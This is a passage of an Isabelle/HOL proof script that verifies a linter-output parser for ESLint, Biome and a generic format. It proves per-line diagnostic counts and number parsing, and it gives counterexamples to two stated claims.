  let ?after = "[Close 5, Plus Space, Open 6, Plus Dot, Close 6, Eol]"
  have "accepted True [Close 6, Eol] []"
    by (intro accepted_Close accepted_Eol accepted_Nil)
  with msg have "accepted True [Plus Dot, Close 6, Eol] msg"
    by (rule accepted_text_to_end)
  then have after: "accepted True ?after (CHR '' '' # msg)"
    by (intro accepted_Close accepted_Plus_one accepted_Open space_is_Space)
  have "accepted True (Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''] # ?after)
          (sev @ CHR '' '' # msg)"
    using sev
  proof (elim disjE)
    assume "toLowerCase sev = ''error''"
    then have "accepted True (lit ''ERROR'' @ ?after) (sev @ CHR '' '' # msg)"
      by (rule severity_word) (simp_all add: lower_words after)
    then show ?thesis
      by (rule accepted_Alt_first)
  next
    assume "toLowerCase sev = ''warning''"
    then have "accepted True (lit ''WARNING'' @ ?after) (sev @ CHR '' '' # msg)"
      by (rule severity_word) (simp_all add: lower_words after)
    then show ?thesis
      by (intro accepted_Alt_next accepted_Alt_first)
  next
    assume "toLowerCase sev = ''warn''"
    then have "accepted True (lit ''WARN'' @ ?after) (sev @ CHR '' '' # msg)"
      by (rule severity_word) (simp_all add: lower_words after)
    then show ?thesis
      by (intro accepted_Alt_next accepted_Alt_first)
  qed
  then have "accepted True
      (Close 4 # Plus Space # Open 5 # Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN'']
       # ?after) (CHR '' '' # sev @ CHR '' '' # msg)"
    by (intro accepted_Close accepted_Plus_one accepted_Open space_is_Space)
  then have "accepted True
      (Plus WordChar # Close 4 # Plus Space # Open 5
       # Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''] # ?after)
      (rule2 @ CHR '' '' # sev @ CHR '' '' # msg)"
    using rules(2) by (intro accepted_Plus) (auto simp: wordToken_def)
  then have "accepted True
      (Atom (Ch CHR ''/'') # Plus WordChar # Close 4 # Plus Space # Open 5
       # Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''] # ?after)
      (CHR ''/'' # rule2 @ CHR '' '' # sev @ CHR '' '' # msg)"
    by (intro accepted_Atom) simp_all
  then have "accepted True
      (Plus WordChar # Atom (Ch CHR ''/'') # Plus WordChar # Close 4 # Plus Space # Open 5
       # Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''] # ?after)
      (rule1 @ CHR ''/'' # rule2 @ CHR '' '' # sev @ CHR '' '' # msg)"
    using rules(1) by (intro accepted_Plus) (auto simp: wordToken_def)
  then have "accepted True
      (Plus Space # Open 4 # Plus WordChar # Atom (Ch CHR ''/'') # Plus WordChar # Close 4
       # Plus Space # Open 5 # Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''] # ?after)
      (CHR '' '' # rule1 @ CHR ''/'' # rule2 @ CHR '' '' # sev @ CHR '' '' # msg)"
    by (intro accepted_Plus_one accepted_Open space_is_Space)
  with path l c have "regexMatch True (locationRe @
      Plus Space # Open 4 # Plus WordChar # Atom (Ch CHR ''/'') # Plus WordChar # Close 4
       # Plus Space # Open 5 # Alt [lit ''ERROR'', lit ''WARNING'', lit ''WARN''] # ?after)
      (path @ CHR '':'' # l @ CHR '':'' # c @ CHR '' '' # rule1 @ CHR ''/'' # rule2
       @ CHR '' '' # sev @ CHR '' '' # msg) \<noteq> None"
    by (intro accepted_location) (auto simp: positiveInteger_def)
  then show ?thesis
    by (simp add: biomeRe_location ln)
qed

lemma generic_guard_on_line:
  assumes "regexMatch False genericRe ln = Some g"
  shows "startsWith (grp g 1) '' '' = startsWith ln '' ''"
proof -
  from assms obtain f rest where "ln = f @ rest" "f \<noteq> []" "grp g 1 = f"
    using parser_match_location [of ln g] by auto
  then show ?thesis
    by (cases f) simp_all
qed

lemma parseStep_at_most_one: "length (parseStep [] ln) \<le> 1"
  by (simp add: parseStep_def split: option.splits)

lemma wellFormedLine_one_diagnostic:
  assumes "wellFormedLine ln"
  shows "length (parseStep [] ln) = 1"
proof (cases "regexMatch True eslintRe ln = None \<and> regexMatch True biomeRe ln = None")
  case False
  then show ?thesis
    by (auto simp: parseStep_def split: option.splits)
next
  case True
  then have "\<not> commonLine ln" "\<not> groupedLine ln"
    using commonLine_accepted [of ln] groupedLine_accepted [of ln] by blast+
  with assms have gen: "genericLine ln"
    by (simp add: wellFormedLine_def)
  then obtain g where g: "regexMatch False genericRe ln = Some g"
    using genericLine_accepted by blast
  from gen have "\<not> isWhiteSpace (hd ln)" "ln \<noteq> []"
    by (auto simp: genericLine_def)
  then have "\<not> startsWith ln '' ''"
    by (cases ln) (auto simp: isWhiteSpace_def)
  then have "\<not> startsWith (grp g 1) '' ''"
    using generic_guard_on_line [OF g] by blast
  with True g show ?thesis
    by (simp add: parseStep_def)
qed

subsection \<open>One diagnostic for each well-formed line\<close>

lemma concat_singletons:
  "\<forall>x \<in> set xs. length (f x) = 1 \<Longrightarrow>
     length (concat (map f xs)) = length xs
     \<and> (\<forall>i < length xs. f (xs ! i) = [concat (map f xs) ! i])"
proof (induction xs)
  case Nil
  show ?case by simp
next
  case (Cons x xs)
  then obtain y where y: "f x = [y]"
    by (cases "f x") auto
  from Cons have ih: "length (concat (map f xs)) = length xs"
      "\<forall>i < length xs. f (xs ! i) = [concat (map f xs) ! i]"
    by simp_all
  have "f ((x # xs) ! i) = [concat (map f (x # xs)) ! i]" if "i < length (x # xs)" for i
    using that y ih(2) by (cases i) simp_all
  with y ih(1) show ?case by simp
qed

lemma parseStep_by_pattern:
  "regexMatch True eslintRe ln = Some g \<Longrightarrow> parseStep [] ln = [eslintError g]"
  "regexMatch True eslintRe ln = None \<Longrightarrow> regexMatch True biomeRe ln = Some g \<Longrightarrow>
     parseStep [] ln = [biomeError g]"
  "regexMatch True eslintRe ln = None \<Longrightarrow> regexMatch True biomeRe ln = None \<Longrightarrow>
     regexMatch False genericRe ln = Some g \<Longrightarrow>
     parseStep [] ln = (if startsWith ln '' '' then [] else [genericError ln g])"
  "regexMatch True eslintRe ln = None \<Longrightarrow> regexMatch True biomeRe ln = None \<Longrightarrow>
     regexMatch False genericRe ln = None \<Longrightarrow> parseStep [] ln = []"
proof -
  assume "regexMatch True eslintRe ln = None" "regexMatch True biomeRe ln = None"
    and g: "regexMatch False genericRe ln = Some g"
  moreover have "startsWith (grp g 1) '' '' = startsWith ln '' ''"
    using g by (rule generic_guard_on_line)
  ultimately show "parseStep [] ln = (if startsWith ln '' '' then [] else [genericError ln g])"
    by (simp add: parseStep_def)
qed (simp_all add: parseStep_def)

text \<open>
  C4, as the code has it.  The parser returns, in the order of the input lines, what each
  line contributes.  A well-formed line of one of the three dialects contributes exactly
  one diagnostic, and a line of the common dialect is read by the first pattern; so an
  output of well-formed lines only yields as many diagnostics as it has lines, the \<open>i\<close>-th
  one from the \<open>i\<close>-th line.  Every line is classified by the first of the three patterns
  that matches it, the generic one only for a line that does not begin with a space, and a
  line that no pattern matches contributes nothing.  The parser is a total function: no
  line makes it fail.
\<close>

theorem well_formed_lines_parse_in_order:
  "parseLintOutput output = concat (map (parseStep []) (split_on (CHR 0x0A) output))
   \<and> (\<forall>ln. wellFormedLine ln \<longrightarrow> length (parseStep [] ln) = 1)
   \<and> (\<forall>ln. commonLine ln \<longrightarrow>
          (\<exists>g. regexMatch True eslintRe ln = Some g \<and> parseStep [] ln = [eslintError g]))
   \<and> ((\<forall>ln \<in> set (split_on (CHR 0x0A) output). wellFormedLine ln) \<longrightarrow>
        length (parseLintOutput output) = length (split_on (CHR 0x0A) output)
        \<and> (\<forall>i < length (split_on (CHR 0x0A) output).
              parseStep [] (split_on (CHR 0x0A) output ! i) = [parseLintOutput output ! i]))
   \<and> (\<forall>ln g. regexMatch True eslintRe ln = Some g \<longrightarrow> parseStep [] ln = [eslintError g])
   \<and> (\<forall>ln g. regexMatch True eslintRe ln = None \<and> regexMatch True biomeRe ln = Some g \<longrightarrow>
          parseStep [] ln = [biomeError g])
   \<and> (\<forall>ln g. regexMatch True eslintRe ln = None \<and> regexMatch True biomeRe ln = None
              \<and> regexMatch False genericRe ln = Some g \<longrightarrow>
          parseStep [] ln = (if startsWith ln '' '' then [] else [genericError ln g]))
   \<and> (\<forall>ln. regexMatch True eslintRe ln = None \<and> regexMatch True biomeRe ln = None
            \<and> regexMatch False genericRe ln = None \<longrightarrow>
          parseStep [] ln = [])"
proof (intro conjI)
  show "parseLintOutput output = concat (map (parseStep []) (split_on (CHR 0x0A) output))"
    by (rule parseLintOutput_concat)
  show "\<forall>ln. wellFormedLine ln \<longrightarrow> length (parseStep [] ln) = 1"
    by (simp add: wellFormedLine_one_diagnostic)
  show "\<forall>ln. commonLine ln \<longrightarrow>
          (\<exists>g. regexMatch True eslintRe ln = Some g \<and> parseStep [] ln = [eslintError g])"
  proof (intro allI impI)
    fix ln
    assume "commonLine ln"
    then obtain g where "regexMatch True eslintRe ln = Some g"
      using commonLine_accepted by blast
    then show "\<exists>g. regexMatch True eslintRe ln = Some g \<and> parseStep [] ln = [eslintError g]"
      by (simp add: parseStep_by_pattern(1))
  qed
  show "(\<forall>ln \<in> set (split_on (CHR 0x0A) output). wellFormedLine ln) \<longrightarrow>
        length (parseLintOutput output) = length (split_on (CHR 0x0A) output)
        \<and> (\<forall>i < length (split_on (CHR 0x0A) output).
              parseStep [] (split_on (CHR 0x0A) output ! i) = [parseLintOutput output ! i])"
  proof
    assume "\<forall>ln \<in> set (split_on (CHR 0x0A) output). wellFormedLine ln"
    then have "\<forall>ln \<in> set (split_on (CHR 0x0A) output). length (parseStep [] ln) = 1"
      by (simp add: wellFormedLine_one_diagnostic)
    then show "length (parseLintOutput output) = length (split_on (CHR 0x0A) output)
        \<and> (\<forall>i < length (split_on (CHR 0x0A) output).
              parseStep [] (split_on (CHR 0x0A) output ! i) = [parseLintOutput output ! i])"
      unfolding parseLintOutput_concat by (rule concat_singletons)
  qed
qed (use parseStep_by_pattern in blast)+

theorem well_formed_lines_parse_in_order_witness:
  "length (parseLintOutput threeDialects) = 3
   \<and> map file (parseLintOutput threeDialects) = [''src/a.ts'', ''src/b.ts'', ''src/c.ts'']
   \<and> map severity (parseLintOutput threeDialects) = [Error, Warning, Warning]"
proof -
  have lines: "split_on (CHR 0x0A) threeDialects
                 = [''src/a.ts:10:5: error 'x' is never used [no-unused-vars]'',
                    ''src/b.ts:3:4 lint/noVar WARN careful'',
                    ''src/c.ts:7:1: something odd'']"
    by code_simp
  have "''src/a.ts:10:5: error 'x' is never used [no-unused-vars]''
          = ''src/a.ts'' @ '':'' @ ''10'' @ '':'' @ ''5'' @ '': '' @ ''error'' @ '' ''
            @ '''x' is never used [no-unused-vars]''
        \<and> oneLineText ''src/a.ts'' \<and> positiveInteger ''10'' \<and> positiveInteger ''5''
        \<and> (toLowerCase ''error'' = ''error'' \<or> toLowerCase ''error'' = ''warning'')
        \<and> oneLineText '''x' is never used [no-unused-vars]''"
    by (simp add: oneLineText_def positiveInteger_def asciiDigits_def lower_words)
  then have 1: "wellFormedLine ''src/a.ts:10:5: error 'x' is never used [no-unused-vars]''"
    unfolding wellFormedLine_def commonLine_def by blast
  have "''src/b.ts:3:4 lint/noVar WARN careful''
          = ''src/b.ts'' @ '':'' @ ''3'' @ '':'' @ ''4'' @ '' '' @ ''lint'' @ ''/'' @ ''noVar''
            @ '' '' @ ''WARN'' @ '' '' @ ''careful''
        \<and> oneLineText ''src/b.ts'' \<and> positiveInteger ''3'' \<and> positiveInteger ''4''
        \<and> wordToken ''lint'' \<and> wordToken ''noVar''
        \<and> (toLowerCase ''WARN'' = ''error'' \<or> toLowerCase ''WARN'' = ''warning''
             \<or> toLowerCase ''WARN'' = ''warn'')
        \<and> oneLineText ''careful''"
    by (simp add: oneLineText_def positiveInteger_def wordToken_def asciiDigits_def lower_words)
  then have 2: "wellFormedLine ''src/b.ts:3:4 lint/noVar WARN careful''"
    unfolding wellFormedLine_def groupedLine_def by blast
  have "''src/c.ts:7:1: something odd''
          = ''src/c.ts'' @ '':'' @ ''7'' @ '':'' @ ''1'' @ '': '' @ ''something odd''
        \<and> oneLineText ''src/c.ts'' \<and> positiveInteger ''7'' \<and> positiveInteger ''1''
        \<and> oneLineText ''something odd''
        \<and> \<not> isWhiteSpace (hd ''src/c.ts:7:1: something odd'')"
    by (simp add: oneLineText_def positiveInteger_def asciiDigits_def isWhiteSpace_def)
  then have 3: "wellFormedLine ''src/c.ts:7:1: something odd''"
    unfolding wellFormedLine_def genericLine_def by blast
  have all: "\<forall>ln \<in> set (split_on (CHR 0x0A) threeDialects). wellFormedLine ln"
    unfolding lines using 1 2 3 by simp
  have three: "length (split_on (CHR 0x0A) threeDialects) = 3"
    unfolding lines by simp
  have fs: "map file (concat (map (parseStep []) (split_on (CHR 0x0A) threeDialects)))
       = [''src/a.ts'', ''src/b.ts'', ''src/c.ts'']"
    by code_simp
  have sv: "map severity (concat (map (parseStep []) (split_on (CHR 0x0A) threeDialects)))
       = [Error, Warning, Warning]"
    by code_simp
  note t = well_formed_lines_parse_in_order [of threeDialects]
  from t have eq: "parseLintOutput threeDialects
           = concat (map (parseStep []) (split_on (CHR 0x0A) threeDialects))"
    by (rule conjunct1)
  from t all have "length (parseLintOutput threeDialects)
           = length (split_on (CHR 0x0A) threeDialects)"
    by (elim conjE) blast
  then have len: "length (parseLintOutput threeDialects) = 3"
    by (simp only: three)
  from fs have f: "map file (parseLintOutput threeDialects)
      = [''src/a.ts'', ''src/b.ts'', ''src/c.ts'']"
    by (simp only: eq)
  from sv have "map severity (parseLintOutput threeDialects) = [Error, Warning, Warning]"
    by (simp only: eq)
  with len f show ?thesis
    by (intro conjI)
qed

text \<open>
  C4 as stated fails: the second line of \<^const>\<open>continuationOutput\<close> begins with a tab, so
  it is a well-formed line of no dialect, and the parser yields a diagnostic for it.
\<close>

theorem continuation_line_counterexample:
  "\<not> wellFormedLine (CHR 0x09 # ''at lib/b.ts:3:4: note'')
   \<and> split_on (CHR 0x0A) continuationOutput
       = [''src/a.ts:1:2: error bad'', CHR 0x09 # ''at lib/b.ts:3:4: note'']
   \<and> parseLintOutput continuationOutput
       = [\<lparr>file = ''src/a.ts'', line = Finite 1, column = Finite 2, message = ''bad'',
           rule = None, severity = Error\<rparr>,
          \<lparr>file = CHR 0x09 # ''at lib/b.ts'', line = Finite 3, column = Finite 4,
           message = ''note'', rule = None, severity = Warning\<rparr>]"
proof -
  let ?ln = "CHR 0x09 # ''at lib/b.ts:3:4: note''"
  have "regexMatch True eslintRe ?ln = None"
    by code_simp
  then have "\<not> commonLine ?ln"
    using commonLine_accepted by blast
  moreover have "regexMatch True biomeRe ?ln = None"
    by code_simp
  then have "\<not> groupedLine ?ln"
    using groupedLine_accepted by blast
  moreover have "\<not> genericLine ?ln"
    by (simp add: genericLine_def isWhiteSpace_def)
  ultimately have "\<not> wellFormedLine ?ln"
    by (simp add: wellFormedLine_def)
  moreover have "split_on (CHR 0x0A) continuationOutput = [''src/a.ts:1:2: error bad'', ?ln]"
    by code_simp
  moreover have "parseLintOutput continuationOutput
       = [\<lparr>file = ''src/a.ts'', line = Finite 1, column = Finite 2, message = ''bad'',
           rule = None, severity = Error\<rparr>,
          \<lparr>file = CHR 0x09 # ''at lib/b.ts'', line = Finite 3, column = Finite 4,
           message = ''note'', rule = None, severity = Warning\<rparr>]"
    by code_simp
  ultimately show ?thesis
    by (intro conjI)
qed

subsection \<open>Line and column numbers\<close>

declare bitLength.simps [simp del]

lemma bitLength_le: "bitLength n \<le> k \<longleftrightarrow> n < 2 ^ k"
proof (induction n arbitrary: k rule: bitLength.induct)
  case (1 n)
  show ?case
  proof (cases "n = 0")
    case True
    then show ?thesis by (simp add: bitLength.simps)
  next
    case False
    show ?thesis
    proof (cases k)
      case 0
      with False show ?thesis by (simp add: bitLength.simps [of n])
    next
      case (Suc j)
      from 1 [OF False, of j] have "bitLength (n div 2) \<le> j \<longleftrightarrow> n div 2 < 2 ^ j" .
      moreover have "n div 2 < 2 ^ j \<longleftrightarrow> n < 2 ^ j * 2"
        by (rule div_less_iff_less_mult) simp
      ultimately show ?thesis
        using False Suc by (simp add: bitLength.simps [of n] mult.commute)
    qed
  qed
qed

lemma toDouble_exact: "n < 2 ^ 53 \<Longrightarrow> toDouble n = Finite n"
  using bitLength_le [of n 53] by (simp add: toDouble_def)

lemma parseStep_cases:
  "parseStep [] ln = [d] \<Longrightarrow>
     (\<exists>g. regexMatch True eslintRe ln = Some g \<and> d = eslintError g)
     \<or> (\<exists>g. regexMatch True biomeRe ln = Some g \<and> d = biomeError g)
     \<or> (\<exists>g. regexMatch False genericRe ln = Some g \<and> d = genericError ln g)"
  by (auto simp: parseStep_def split: option.splits if_splits)

lemma parseStep_fields:
  assumes "parseStep [] ln = [d]"
  shows "\<exists>f l c rest.
           ln = f @ '':'' @ l @ '':'' @ c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> file d = f \<and> line d = parseInt l \<and> column d = parseInt c"
proof -
  from parseStep_cases [OF assms] obtain g where
      g: "regexMatch True eslintRe ln = Some g \<or> regexMatch True biomeRe ln = Some g
           \<or> regexMatch False genericRe ln = Some g"
      and d: "file d = grp g 1 \<and> line d = parseInt (grp g 2) \<and> column d = parseInt (grp g 3)"
  proof (elim disjE exE conjE)
    fix g
    assume "regexMatch True eslintRe ln = Some g" "d = eslintError g"
    then show ?thesis
      by (intro that [of g]) (simp_all add: eslintError_def)
  next
    fix g
    assume "regexMatch True biomeRe ln = Some g" "d = biomeError g"
    then show ?thesis
      by (intro that [of g]) (simp_all add: biomeError_def)
  next
    fix g
    assume "regexMatch False genericRe ln = Some g" "d = genericError ln g"
    then show ?thesis
      by (intro that [of g]) (simp_all add: genericError_def)
  qed
  from parser_match_location [OF g] obtain f l c rest where
      "ln = f @ CHR '':'' # l @ CHR '':'' # c @ rest" "f \<noteq> []" "l \<noteq> []" "c \<noteq> []"
      "set l \<subseteq> set asciiDigits" "set c \<subseteq> set asciiDigits"
      "grp g 1 = f" "grp g 2 = l" "grp g 3 = c"
    by blast
  with d have "ln = f @ '':'' @ l @ '':'' @ c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> file d = f \<and> line d = parseInt l \<and> column d = parseInt c"
    by simp
  then show ?thesis
    by blast
qed

lemma eslint_tail_error_x:
  "\<exists>r. mt True
          [Atom (Ch CHR '':''), Star Space,
           Open 4, Alt [lit ''error'', lit ''warning''], Close 4, Plus Space,
           Open 5, PlusLazy Dot, Close 5,
           Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6,
                Atom (Ch CHR '']'')],
           Eol] '': error x'' m = Some r
       \<and> groups r 1 = groups m 1 \<and> groups r 2 = groups m 2 \<and> groups r 3 = groups m 3
       \<and> groups r 4 = Some ''error'' \<and> groups r 5 = Some ''x'' \<and> groups r 6 = groups m 6"
  by (simp add: lit_def isWhiteSpace_def lower_words)

lemma error_x_line:
  assumes path: "path \<noteq> []"
      "\<forall>x \<in> set path. x \<noteq> CHR '':'' \<and> x \<noteq> CHR 0x0A \<and> x \<noteq> CHR 0x0D"
    and l: "l \<noteq> []" "set l \<subseteq> set asciiDigits"
    and c: "c \<noteq> []" "set c \<subseteq> set asciiDigits"
  shows "parseLintOutput (path @ '':'' @ l @ '':'' @ c @ '': error x'')
           = [\<lparr>file = path, line = parseInt l, column = parseInt c, message = ''x'',
               rule = None, severity = Error\<rparr>]"
proof -
  let ?ln = "path @ CHR '':'' # l @ CHR '':'' # c @ '': error x''"
  let ?tail = "[Atom (Ch CHR '':''), Star Space,
           Open 4, Alt [lit ''error'', lit ''warning''], Close 4, Plus Space,
           Open 5, PlusLazy Dot, Close 5,
           Opt [Plus Space, Atom (Ch CHR ''[''), Open 6, PlusLazy Dot, Close 6,
                Atom (Ch CHR '']'')],
           Eol]"
  let ?init = "\<lparr>whole = ?ln, starts = (\<lambda>n. []), groups = (\<lambda>n. None)\<rparr>"
  have rest: "'': error x'' = [] \<or> hd '': error x'' \<notin> set asciiDigits"
    by (simp add: asciiDigits_def)
  from location_first_match [OF path l c rest refl, of ?init True ?tail]
  obtain m' where m': "groups m' 1 = Some path" "groups m' 2 = Some l" "groups m' 3 = Some c"
      "groups m' 6 = None"
      and first: "\<And>r. mt True ?tail '': error x'' m' = Some r \<Longrightarrow>
                    mt True (locationRe @ ?tail) ?ln ?init = Some r"
    by auto
  from eslint_tail_error_x [of m'] obtain r where
      r: "mt True ?tail '': error x'' m' = Some r"
        "groups r 1 = groups m' 1" "groups r 2 = groups m' 2" "groups r 3 = groups m' 3"
        "groups r 4 = Some ''error''" "groups r 5 = Some ''x''" "groups r 6 = groups m' 6"
    by blast
  from first [OF r(1)] have "mt True eslintRe ?ln ?init = Some r"
    by (simp only: eslintRe_location)
  moreover from path obtain x xs where "?ln = x # xs"
    by (cases path) auto
  ultimately have "search True eslintRe ?ln ?ln = Some r"
    by simp
  then have g: "regexMatch True eslintRe ?ln = Some (groups r)"
    by (simp add: regexMatch_def)
  have err: "eslintError (groups r)
          = \<lparr>file = path, line = parseInt l, column = parseInt c, message = ''x'',
             rule = None, severity = Error\<rparr>"
    using r m' by (simp add: eslintError_def grp_def trim_def isWhiteSpace_def
        severityOfString_def lower_words)
  have "CHR 0x0A \<notin> set asciiDigits"
    by (simp add: asciiDigits_def)
  with path l c have "CHR 0x0A \<notin> set ?ln"
    by auto
  then have "parseLintOutput ?ln = parseStep [] ?ln"
    by (simp add: parseLintOutput_concat split_on_no_sep)
  also have "\<dots> = [eslintError (groups r)]"
    using g by (simp add: parseStep_def)
  finally show ?thesis
    using err by simp
qed

text \<open>
  C7, as the code has it.  Every diagnostic comes from a line of the form
  \<^verbatim>\<open>file:line:col\<close> followed by more, where \<^verbatim>\<open>line\<close> and \<^verbatim>\<open>col\<close> are non-empty runs
  of decimal digits, and it carries what \<^verbatim>\<open>parseInt\<close> makes of them; a line without such
  fields yields nothing, and no line makes the parser fail.  The value of a run of digits
  is never a reason to skip the line: whatever the two runs are, the line
  \<^verbatim>\<open>path:line:col: error x\<close> with a path free of colons yields its diagnostic.  The number
  is the decimal value below \<open>2^53\<close>, 0 for the digit 0.
\<close>

theorem digit_fields_decide_diagnostic:
  "(d \<in> set (parseLintOutput output) \<longrightarrow>
      (\<exists>ln f l c rest.
           ln \<in> set (split_on (CHR 0x0A) output)
           \<and> parseStep [] ln = [d]
           \<and> ln = f @ '':'' @ l @ '':'' @ c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> file d = f \<and> line d = parseInt l \<and> column d = parseInt c))
   \<and> (path \<noteq> [] \<and> (\<forall>x \<in> set path. x \<noteq> CHR '':'' \<and> x \<noteq> CHR 0x0A \<and> x \<noteq> CHR 0x0D)
        \<and> ds \<noteq> [] \<and> set ds \<subseteq> set asciiDigits \<and> es \<noteq> [] \<and> set es \<subseteq> set asciiDigits \<longrightarrow>
      parseLintOutput (path @ '':'' @ ds @ '':'' @ es @ '': error x'')
        = [\<lparr>file = path, line = parseInt ds, column = parseInt es, message = ''x'',
            rule = None, severity = Error\<rparr>])
   \<and> (decimalValue ds < 2 ^ 53 \<longrightarrow> parseInt ds = Finite (decimalValue ds))
   \<and> parseInt ''0'' = Finite 0"
proof (intro conjI impI)
  assume "d \<in> set (parseLintOutput output)"
  then obtain ln where ln: "ln \<in> set (split_on (CHR 0x0A) output)"
      "d \<in> set (parseStep [] ln)"
    by (auto simp: parseLintOutput_concat)
  have "length (parseStep [] ln) \<le> 1"
    by (rule parseStep_at_most_one)
  with ln(2) have "parseStep [] ln = [d]"
    by (cases "parseStep [] ln") auto
  with ln(1) parseStep_fields show "\<exists>ln f l c rest.
           ln \<in> set (split_on (CHR 0x0A) output)
           \<and> parseStep [] ln = [d]
           \<and> ln = f @ '':'' @ l @ '':'' @ c @ rest
           \<and> f \<noteq> [] \<and> l \<noteq> [] \<and> c \<noteq> []
           \<and> set l \<subseteq> set asciiDigits \<and> set c \<subseteq> set asciiDigits
           \<and> file d = f \<and> line d = parseInt l \<and> column d = parseInt c"
    by blast
next
  assume "path \<noteq> [] \<and> (\<forall>x \<in> set path. x \<noteq> CHR '':'' \<and> x \<noteq> CHR 0x0A \<and> x \<noteq> CHR 0x0D)
        \<and> ds \<noteq> [] \<and> set ds \<subseteq> set asciiDigits \<and> es \<noteq> [] \<and> set es \<subseteq> set asciiDigits"
  then show "parseLintOutput (path @ '':'' @ ds @ '':'' @ es @ '': error x'')
        = [\<lparr>file = path, line = parseInt ds, column = parseInt es, message = ''x'',
            rule = None, severity = Error\<rparr>]"
    by (intro error_x_line) simp_all
next
  assume "decimalValue ds < 2 ^ 53"
  then show "parseInt ds = Finite (decimalValue ds)"
    by (simp add: parseInt_def toDouble_exact)
next
  show "parseInt ''0'' = Finite 0"
    by (simp add: parseInt_def decimalValue_def digitValue_def toDouble_exact)
qed

theorem digit_fields_decide_diagnostic_witness:
  "parseLintOutput ''lib/u.ts:000:9007199254740993: error x''
     = [\<lparr>file = ''lib/u.ts'', line = Finite 0, column = Finite 9007199254740992,
         message = ''x'', rule = None, severity = Error\<rparr>]"
proof -
  have v0: "decimalValue ''000'' = 0"
    by (simp add: decimalValue_def digitValue_def)
  have v1: "decimalValue ''9007199254740993'' = 9007199254740993"
    by (simp add: decimalValue_def digitValue_def)
  have b: "bitLength 9007199254740993 = 54"
    by (simp add: bitLength.simps)
  have p0: "parseInt ''000'' = Finite 0"
    using digit_fields_decide_diagnostic [of _ _ _ "''000''"] v0 by simp
  have p1: "parseInt ''9007199254740993'' = Finite 9007199254740992"
    by (simp add: parseInt_def v1 toDouble_def b Let_def)
  have "''lib/u.ts'' \<noteq> []
        \<and> (\<forall>x \<in> set ''lib/u.ts''. x \<noteq> CHR '':'' \<and> x \<noteq> CHR 0x0A \<and> x \<noteq> CHR 0x0D)
        \<and> ''000'' \<noteq> [] \<and> set ''000'' \<subseteq> set asciiDigits
        \<and> ''9007199254740993'' \<noteq> [] \<and> set ''9007199254740993'' \<subseteq> set asciiDigits"
    by (simp add: asciiDigits_def)
  with digit_fields_decide_diagnostic [of _ _ "''lib/u.ts''" "''000''" "''9007199254740993''"]
  have "parseLintOutput (''lib/u.ts'' @ '':'' @ ''000'' @ '':'' @ ''9007199254740993''
            @ '': error x'')
        = [\<lparr>file = ''lib/u.ts'', line = parseInt ''000'',
            column = parseInt ''9007199254740993'', message = ''x'',
            rule = None, severity = Error\<rparr>]"
    by blast
  then show ?thesis
    by (simp add: p0 p1)
qed

text \<open>
  C7 as stated fails: a line number 0 is not a positive integer, and the line yields a
  diagnostic with \<^const>\<open>line\<close> 0.
\<close>

theorem zero_line_number_counterexample:
  "parseLintOutput ''a.ts:0:5: error x''
     = [\<lparr>file = ''a.ts'', line = Finite 0, column = Finite 5, message = ''x'', rule = None,
         severity = Error\<rparr>]"
  by code_simp

lemma startsWith_nonempty_prefix:
  "f \<noteq> [] \<Longrightarrow> startsWith (f @ r) [c] = startsWith f [c]"
  by (cases f) simp_all

text \<open>
  C8, as the code has it.  A line that only the generic pattern matches yields a
  diagnostic exactly when it does not begin with the space character, and the severity of
  that diagnostic is \<^const>\<open>Error\<close> when the lower-cased line contains \<^verbatim>\<open>error\<close>, else
  \<^const>\<open>Warning\<close>.
\<close>

theorem generic_fallback_rejects_leading_space:
  assumes "regexMatch True eslintRe ln = None"
    and "regexMatch True biomeRe ln = None"
    and "regexMatch False genericRe ln = Some g"
  shows "parseStep errors ln
           = (if startsWith ln '' '' then errors else errors @ [genericError ln g])
         \<and> severity (genericError ln g)
             = (if includes_str (toLowerCase ln) ''error'' then Error else Warning)"
proof -
  from assms(3) obtain f rest where "ln = f @ rest" "f \<noteq> []" "grp g 1 = f"
    using parser_match_location [of ln g] by auto
  then have "startsWith (grp g 1) '' '' = startsWith ln '' ''"
    by (simp add: startsWith_nonempty_prefix)
  with assms show ?thesis
    by (simp add: parseStep_def genericError_def)
qed

theorem generic_fallback_rejects_leading_space_witness:
  "parseStep [] ''src/c.ts:7:1: something odd''
     = [\<lparr>file = ''src/c.ts'', line = Finite 7, column = Finite 1, message = ''something odd'', rule = None,
         severity = Warning\<rparr>]
   \<and> parseStep [] '' src/c.ts:7:1: an error''  = []
   \<and> regexMatch False genericRe '' src/c.ts:7:1: an error'' \<noteq> None"
proof -
  have a: "regexMatch True eslintRe ''src/c.ts:7:1: something odd'' = None"
      "regexMatch True biomeRe ''src/c.ts:7:1: something odd'' = None"
    by code_simp+
  obtain g where g: "regexMatch False genericRe ''src/c.ts:7:1: something odd'' = Some g"
      "genericError ''src/c.ts:7:1: something odd'' g
         = \<lparr>file = ''src/c.ts'', line = Finite 7, column = Finite 1, message = ''something odd'',
            rule = None, severity = Warning\<rparr>"
  proof (cases "regexMatch False genericRe ''src/c.ts:7:1: something odd''")
    case None
    moreover have "regexMatch False genericRe ''src/c.ts:7:1: something odd'' \<noteq> None"
      by code_simp
    ultimately show ?thesis by simp
  next
    case (Some g)
    have "map_option (genericError ''src/c.ts:7:1: something odd'')
            (regexMatch False genericRe ''src/c.ts:7:1: something odd'')
          = Some \<lparr>file = ''src/c.ts'', line = Finite 7, column = Finite 1, message = ''something odd'',
                  rule = None, severity = Warning\<rparr>"
      by code_simp
    with Some that show ?thesis by simp
  qed
  have b: "regexMatch True eslintRe '' src/c.ts:7:1: an error'' = None"
      "regexMatch True biomeRe '' src/c.ts:7:1: an error'' = None"
    by code_simp+
